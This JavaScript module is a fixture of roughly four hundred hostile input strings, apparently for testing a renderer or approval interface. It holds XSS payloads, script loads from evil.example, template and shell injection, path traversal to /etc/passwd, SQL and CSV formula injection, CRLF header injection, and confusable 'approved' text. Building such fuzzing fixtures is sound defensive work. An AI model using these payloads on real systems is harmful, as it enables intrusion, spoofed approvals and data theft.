// Text that attacks whoever shows it: some four hundred strings, made from families so that each says what it
// is after. A script among them that runs sets `window.pwned`.

const code = 'window.pwned=1';

const markup = [
  `<script>${code}</script>`, `<ScRiPt>${code}</sCrIpT>`, `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${code}>`, `<img src=x onerror="${code}">`, `<IMG SRC=x OnErRoR=${code}>`, `<img/src=x/onerror=${code}>`,
  `<svg onload=${code}>`, `<svg><script>${code}</script></svg>`, `<svg><animate onbegin=${code} attributeName=x></svg>`,
  `<svg><a xlink:href="javascript:${code}"><text y=9>x</text></a></svg>`, `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
  `<iframe src="javascript:${code}"></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="javascript:${code}"></object>`, `<embed src="javascript:${code}">`, `<body onload=${code}>`,
  `<video><source onerror=${code}></video>`, `<audio src=x onerror=${code}>`, `<details open ontoggle=${code}>x</details>`,
  `<input autofocus onfocus=${code}>`, `<select autofocus onfocus=${code}>`, `<textarea autofocus onfocus=${code}>`,
  `<marquee onstart=${code}>`, `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`, `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`, `<style>*{display:none}</style>`, `<style>@import "//evil.example"</style>`,
  `<form action="https://evil.example/"><button>Approve 1h</button></form>`, `<button form=x formaction="javascript:${code}">Approve</button>`,
  `<a href="javascript:${code}">Approve</a>`, `<a href="data:text/html,<script>${code}</script>">x</a>`, `<a href=https://evil.example>x</a>`,
  `</blockquote><script>${code}</script>`, `</title><script>${code}</script>`, `</textarea><script>${code}</script>`,
  `</style><script>${code}</script>`, `</script><script>${code}</script>`, `--><script>${code}</script><!--`, `<!--`, `-->`, `<![CDATA[x]]>`,
  `]]><script>${code}</script>`, `<?php echo 1 ?>`, `<%= 7*7 %>`, `<template><script>${code}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`, `<table background="javascript:${code}">`, `<plaintext>`, `<xmp>`, `<listing>`,
  `<x onclick=${code}>click</x>`, `<div style="position:fixed;inset:0">cover</div>`, `<p hidden>hidden</p>`, `<h1>Approved</h1>`,
  `<dialog open>Signed out</dialog>`, `<portal src=//evil.example>`, `<slot name=x>`, `<custom-element>`, `<br><br><br>`, `<<script>`, `<`, `>`, `<>`, `< script >`,
];

const attributes = [
  `"`, `'`, '`', `">`, `'>`, `"><script>${code}</script>`, `'><script>${code}</script>`, `" onmouseover="${code}`, `' onmouseover='${code}`,
  `" autofocus onfocus="${code}" x="`, `" style="position:fixed;inset:0`, `" hidden x="`, `" data-seen="0`, `"></form><form action="//evil.example`,
  `x" formaction="javascript:${code}`, '` onerror=`x', `\\"><script>${code}</script>`, `\\'-${code}-\\'`, `"}');${code}//`, `"]}</script>`, `{"seconds":99999}`,
  `&quot;><script>${code}</script>`, `&#34;&#62;&lt;script&gt;`, `&#x3c;script&#x3e;${code}`, `&lt;script&gt;${code}&lt;/script&gt;`, `&lt`, `&amp;lt;`, `&`, `&&`, `&nbsp;`, `&#0;`, `&#x202e;`, `&apos;`, `%22%3E%3Cscript%3E`,
];

const templates = [
  '{{7*7}}', '{{ constructor.constructor("window.pwned=1")() }}', '${7*7}', '${window.pwned=1}', '#{7*7}', '{% raw %}', '{% if true %}x{% endif %}', '{# x #}', '{{{x}}}',
  '[[${7*7}]]', '<#assign x=1>', '@{7*7}', '*{7*7}', '~{x}', '$(id)', '`id`', ';id', '|id', '&& id', '%s%s%s%n', '%n%n', '%d', '{0}', '{}', '{:?}', '\\x3cscript\\x3e', '\\u003cscript\\u003e', '\\n\\r', '\\0', '!important', '*/',
  '$HOME', '~root', '../../../../etc/passwd', '..\\..\\windows', 'file:///etc/passwd', '-oProxyCommand=id', '--help', '-n', '-', '--',
];

const urls = [
  `javascript:${code}`, `JaVaScRiPt:${code}`, `java\tscript:${code}`, ` javascript:${code}`, `javascript://x/%0a${code}`, `vbscript:${code}`, `data:text/html,<script>${code}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==', 'https://evil.example/', '//evil.example/', '/\\evil.example', '\\\\evil.example', 'https:evil.example', 'http://localhost@evil.example/',
  'https://evil.example/?q=<script>', '/sign-in?next=//evil.example', 'blob:https://evil.example/x', 'ssh://root@db1', 'mailto:a@b', 'view-source:x', 'about:blank', '#main', '?seen=0', './', '..', '%2e%2e%2f', '%00', '%ff%fe', '%', '%zz', 'a%0d%0aSet-Cookie: x=y',
];

const around = (characters) => characters.flatMap((character) => [`plain${character}text`, `${character}begins with it`, `ends with it${character}`]);
const bidi = around(['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069', '\u200e', '\u200f', '\u061c']);
const invisible = around(['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u115f', '\u3164', '\uffa0', '\u034f', '\u{e0041}', '\ufe0f', '\u2028', '\u2029']);
const control = around(['\0', '\u0001', '\u0007', '\b', '\t', '\n', '\u000b', '\f', '\r', '\r\n', '\u001b[2J', '\u001b]0;title\u0007', '\u007f', '\u0085', '\u009b31m']);

const scripts = [
  'مرحبا بالعالم', 'שלום עולם', 'abc مرحبا def', 'שלום <b>x</b> abc', '\u200f'.repeat(3), '日本語のテキスト', '한국어 문장', 'ไทยไม่มีช่องว่าง', 'हिन्दी में कारण', '👩\u200d👩\u200d👧\u200d👦 family', '🏳\ufe0f\u200d🌈', '👍🏽 ok then', 'ﷺﷺﷺ', '𝕬𝖕𝖕𝖗𝖔𝖛𝖊𝖉', '\u{10ffff}plain', '\u{f8ff}apple', '\ufffeplain', '\ufdd0plain', 'İstanbul ıiIİ', 'ß ẞ SS', 'ﬁﬂ ligatures',
];
const combining = [
  `Z${'\u0301'.repeat(50)}algo`, `e${'\u0300'.repeat(200)}`, `${'\u0300'.repeat(4)}leading`, `a\u20dd b\u20e0 c`, 'Ḽ̦o̶r̵e̷m̸', `x${'\u0e49'.repeat(60)}`, `${'\u0489'.repeat(20)} over`, 'a\u0338b\u0338c',
];
const confusables = [
  'аlice аpproved it', 'саrоl says yes', 'Αpprove 1h', 'ⅽarol approved 4h', 'ｃａｒｏｌ', 'carol\u00a0approved 4h', 'carol\u2003approved\u20034h', 'db‐prod', 'db‑prod', '1h ⁄ 2h', 'ʻokina’ “quotes”', '“ already approved by dan ”', '1 of 1 approved', 'Approve 4h', 'alice asks for vault on db1, db2 for 4h', '\u2800\u2800\u2800\u2800', '\u00a0\u00a0\u00a0\u00a0', '\u3000\u3000\u3000\u3000',
];
const sql = [
  `' OR 1=1 --`, `'; DROP TABLE requests; --`, `" OR ""="`, `') OR ('1'='1`, `1; ATTACH DATABASE 'x' AS y`, `%' LIKE '%`, `\\'; --`, `x'||(SELECT 1)||'`, `?1`, `:name`, `$1`, `NULL`, `null`, `0`, `-1`, `1e309`, `NaN`, `true`, `[]`, `[object Object]`, `undefined`, `__proto__`, `constructor`, `toString`,
];
const csv = [`=1+1`, `=cmd|'/c calc'!A1`, `+1+1`, `-1+1`, `@SUM(A1)`, `=HYPERLINK("https://evil.example","x")`, `a,b,c`, `"a","b"`, `a;b;c`, `a|b|c`, `\ta\tb`];
const json = [`{"v":1,"kind":"approval"}`, `","decision":"approve","x":"`, `\\","decision":"approve`, `\\u0022`, `\\ud800`, `{"__proto__":{"x":1}}`, `}{`, `"\\`];
const long = [
  'x'.repeat(10_000), 'x'.repeat(1001), 'x'.repeat(1000), `${'word '.repeat(199)}words`, 'W'.repeat(300), '-'.repeat(500), '<b>'.repeat(333), '&'.repeat(999), '漢'.repeat(1000), '👍'.repeat(1000), '👍'.repeat(500), `https://evil.example/${'a'.repeat(900)}`, 'i'.repeat(3), '', ' ', '    ', ' padded ', 'ab', 'abc',
];

export const FAMILIES = { markup, attributes, templates, urls, bidi, invisible, control, scripts, combining, confusables, sql, csv, json, long };
export const HOSTILE = Object.values(FAMILIES).flat();

// The same as what is written at once: several strings that are plain characters in one text, so that it is
// long enough to be taken; each of the others, which are refused for what they hold, by itself.
const PACK = 6;
const isPlain = (text) => !/[\p{Cc}\p{Cf}]/u.test(text) && text.trim() === text;
const packed = [markup, attributes, templates, urls, sql, csv, json].flat().filter(isPlain);
const packs = Array.from({ length: Math.ceil(packed.length / PACK) }, (_, at) => packed.slice(at * PACK, (at + 1) * PACK));
export const TEXTS = [...packs, ...HOSTILE.filter((text) => !packed.includes(text)).map((text) => [text])];
